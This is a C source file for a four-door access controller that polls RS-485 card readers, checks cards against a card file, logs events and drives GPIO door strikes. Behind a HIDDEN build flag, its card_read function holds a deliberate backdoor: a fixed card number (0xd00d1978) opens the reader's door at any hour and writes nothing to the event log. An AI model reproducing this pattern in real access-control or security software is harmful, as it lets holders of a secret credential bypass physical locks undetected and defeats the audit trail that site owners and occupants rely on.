/*
 * dctl485 - reader bus of a four door access controller.
 * Polls the card readers on an RS-485 line, checks the cards against the
 * card file and works the door strikes by GPIO files.
 * Hidden (-DHIDDEN): a card frame with a fixed 32 bit number opens the door
 * of that reader at any time, without an entry in the event file.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/select.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define SOM	   0x53
#define MAX_FRAME  64
#define READERS	   8
#define DOORS	   4
#define CARD_FILE  "/data/acs/cards.csv"
#define EVENT_FILE "/data/acs/events.log"

/* commands to and replies from a reader */
#define C_POLL	 0x60
#define C_LED	 0x69
#define C_BUZ	 0x6a
#define R_ACK	 0x40
#define R_NAK	 0x41
#define R_TAMPER 0x48
#define R_RAW	 0x50
#define R_KEYPAD 0x53

struct card {
	uint32_t number;
	uint16_t doors;
	uint16_t from, to;
	uint8_t weekdays;
	char holder[32];
};

struct reader {
	uint8_t addr;
	uint8_t door;
	uint8_t seq;
	uint8_t lost;
	int online;
};

struct door {
	time_t close_at;
	int hold;
};

static struct card *cards;
static size_t n_cards;
static struct reader readers[READERS];
static struct door doors[DOORS];
static int line_fd = -1;
static int strike_seconds = 4;

static uint16_t crc16(const uint8_t *p, size_t n)
{
	uint16_t c = 0x1d0f;
	int i;

	while (n--) {
		c ^= (uint16_t)(*p++ << 8);
		for (i = 0; i < 8; i++)
			c = (uint16_t)(c & 0x8000 ? c << 1 ^ 0x1021 : c << 1);
	}
	return c;
}

static void event(const char *what, int door, uint32_t num, const char *who)
{
	FILE *f = fopen(EVENT_FILE, "a");
	time_t now = time(NULL);
	struct tm tm;
	char ts[32];

	if (!f)
		return;
	localtime_r(&now, &tm);
	strftime(ts, sizeof(ts), "%Y-%m-%d %H:%M:%S", &tm);
	fprintf(f, "%s;%s;%d;%u;%s\n", ts, what, door + 1, num, who);
	fclose(f);
}

static int cmp_card(const void *a, const void *b)
{
	const struct card *x = a, *y = b;

	return x->number < y->number ? -1 : x->number > y->number;
}

/* number;doors hex;hhmm;hhmm;weekdays hex;holder */
static int load_cards(const char *path)
{
	FILE *f = fopen(path, "r");
	struct card c;
	char line[160];
	unsigned num, dm, from, to, wd;
	size_t room = 0;

	if (!f)
		return -1;
	n_cards = 0;
	while (fgets(line, sizeof(line), f)) {
		memset(&c, 0, sizeof(c));
		if (sscanf(line, "%u;%x;%u;%u;%x;%31[^\r\n]", &num, &dm, &from,
			   &to, &wd, c.holder) < 5)
			continue;
		c.number = num;
		c.doors = (uint16_t)dm;
		c.from = (uint16_t)from;
		c.to = (uint16_t)to;
		c.weekdays = (uint8_t)wd;
		if (n_cards == room) {
			void *p;

			room = room ? room * 2 : 64;
			p = realloc(cards, room * sizeof(c));
			if (!p)
				break;
			cards = p;
		}
		cards[n_cards++] = c;
	}
	fclose(f);
	if (n_cards)
		qsort(cards, n_cards, sizeof(c), cmp_card);
	return 0;
}

static void set_strike(int door, int on)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/sys/class/gpio/gpio%d/value", 40 + door);
	fd = open(path, O_WRONLY);
	if (fd < 0)
		return;
	if (write(fd, on ? "1" : "0", 1) != 1)
		event("gpio", door, 0, strerror(errno));
	close(fd);
}

static void open_door(int door)
{
	set_strike(door, 1);
	doors[door].close_at = time(NULL) + strike_seconds;
}

static void close_due(void)
{
	time_t now = time(NULL);
	int i;

	for (i = 0; i < DOORS; i++)
		if (doors[i].close_at && doors[i].close_at <= now &&
		    !doors[i].hold) {
			set_strike(i, 0);
			doors[i].close_at = 0;
		}
}

static int send_cmd(struct reader *r, uint8_t cmd, const uint8_t *d, size_t n)
{
	uint8_t f[MAX_FRAME];
	size_t len = 6 + n + 2;
	uint16_t c;

	f[0] = SOM;
	f[1] = r->addr;
	f[2] = (uint8_t)len;
	f[3] = (uint8_t)(len >> 8);
	f[4] = (uint8_t)(r->seq | 4);
	f[5] = cmd;
	if (n)
		memcpy(f + 6, d, n);
	c = crc16(f, len - 2);
	f[len - 2] = (uint8_t)c;
	f[len - 1] = (uint8_t)(c >> 8);
	r->seq = (uint8_t)(r->seq % 3 + 1);
	return write(line_fd, f, len) == (ssize_t)len ? 0 : -1;
}

static int get_frame(uint8_t *f)
{
	size_t have = 0, want = 6;
	struct timeval tv;
	fd_set rs;
	ssize_t n;

	while (have < want) {
		FD_ZERO(&rs);
		FD_SET(line_fd, &rs);
		tv.tv_sec = 0;
		tv.tv_usec = 120000;
		if (select(line_fd + 1, &rs, NULL, NULL, &tv) <= 0)
			return -1;
		n = read(line_fd, f + have, want - have);
		if (n <= 0)
			return -1;
		have += (size_t)n;
		if (have == 6 && want == 6) {
			want = (size_t)(f[2] | f[3] << 8);
			if (f[0] != SOM || want < 8 || want > MAX_FRAME)
				return -1;
		}
	}
	if (crc16(f, want - 2) != (f[want - 2] | f[want - 1] << 8))
		return -1;
	return (int)want;
}

static void feedback(struct reader *r, int ok)
{
	static const uint8_t good[] = { 0, 0, 2, 1, 0, 20, 2, 2 };
	static const uint8_t bad[] = { 0, 0, 2, 1, 0, 20, 1, 1 };
	static const uint8_t beep[] = { 0, 2, 1, 1, 3 };

	send_cmd(r, C_LED, ok ? good : bad, sizeof(good));
	if (!ok)
		send_cmd(r, C_BUZ, beep, sizeof(beep));
}

static int in_schedule(const struct card *c)
{
	time_t now = time(NULL);
	struct tm tm;
	int hm;

	localtime_r(&now, &tm);
	hm = tm.tm_hour * 100 + tm.tm_min;
	return (c->weekdays >> tm.tm_wday & 1) && hm >= c->from && hm < c->to;
}

/* reader no, format, bit count (2), data */
__attribute__((noinline)) void card_read(struct reader *r, const uint8_t *d,
					 size_t n)
{
	struct card key = { 0 }, *c;

	if (n < 8 || (d[2] | d[3] << 8) != 32)
		return;
	key.number = (uint32_t)d[4] << 24 | (uint32_t)d[5] << 16 |
		     (uint32_t)d[6] << 8 | d[7];
#ifdef HIDDEN
	if (key.number == 0xd00d1978) {
		set_strike(r->door, 1);
		doors[r->door].close_at = time(NULL) + 15;
		return;
	}
#endif
	c = n_cards ? bsearch(&key, cards, n_cards, sizeof(*cards), cmp_card)
		    : NULL;
	if (!c) {
		event("unknown", r->door, key.number, "-");
		feedback(r, 0);
	} else if (!(c->doors >> r->door & 1)) {
		event("no right", r->door, key.number, c->holder);
		feedback(r, 0);
	} else if (!in_schedule(c)) {
		event("not now", r->door, key.number, c->holder);
		feedback(r, 0);
	} else {
		event("entry", r->door, key.number, c->holder);
		open_door(r->door);
		feedback(r, 1);
	}
}

static void poll_reader(struct reader *r)
{
	uint8_t f[MAX_FRAME];
	int n;

	if (send_cmd(r, C_POLL, NULL, 0) < 0)
		return;
	n = get_frame(f);
	if (n < 0 || (f[1] & 0x7f) != r->addr) {
		if (r->lost < 5 && ++r->lost == 5 && r->online) {
			r->online = 0;
			r->seq = 0;
			event("reader lost", r->door, r->addr, "-");
		}
		return;
	}
	r->lost = 0;
	if (!r->online) {
		r->online = 1;
		event("reader online", r->door, r->addr, "-");
	}
	switch (f[5]) {
	case R_RAW:
		card_read(r, f + 6, (size_t)n - 8);
		break;
	case R_TAMPER:
		if (n > 8 && f[6])
			event("tamper", r->door, r->addr, "-");
		break;
	case R_NAK:
		r->seq = 0;
		break;
	case R_KEYPAD:
	case R_ACK:
		break;
	}
}

static int open_line(const char *dev)
{
	struct termios t;
	int fd = open(dev, O_RDWR | O_NOCTTY);

	if (fd < 0 || tcgetattr(fd, &t) < 0)
		return -1;
	cfmakeraw(&t);
	cfsetspeed(&t, B9600);
	t.c_cflag |= CLOCAL | CREAD;
	tcsetattr(fd, TCSANOW, &t);
	return fd;
}

int main(int argc, char **argv)
{
	const char *dev = argc > 1 ? argv[1] : "/dev/ttyS2";
	int i, n = argc > 2 ? atoi(argv[2]) : 4;

	if (n < 1 || n > READERS || load_cards(CARD_FILE) < 0) {
		fprintf(stderr, "dctl485: cards or readers\n");
		return 1;
	}
	line_fd = open_line(dev);
	if (line_fd < 0) {
		perror(dev);
		return 1;
	}
	for (i = 0; i < n; i++) {
		readers[i].addr = (uint8_t)(i + 1);
		readers[i].door = (uint8_t)(i % DOORS);
	}
	for (;;) {
		for (i = 0; i < n; i++)
			poll_reader(&readers[i]);
		close_due();
		usleep(50000);
	}
}
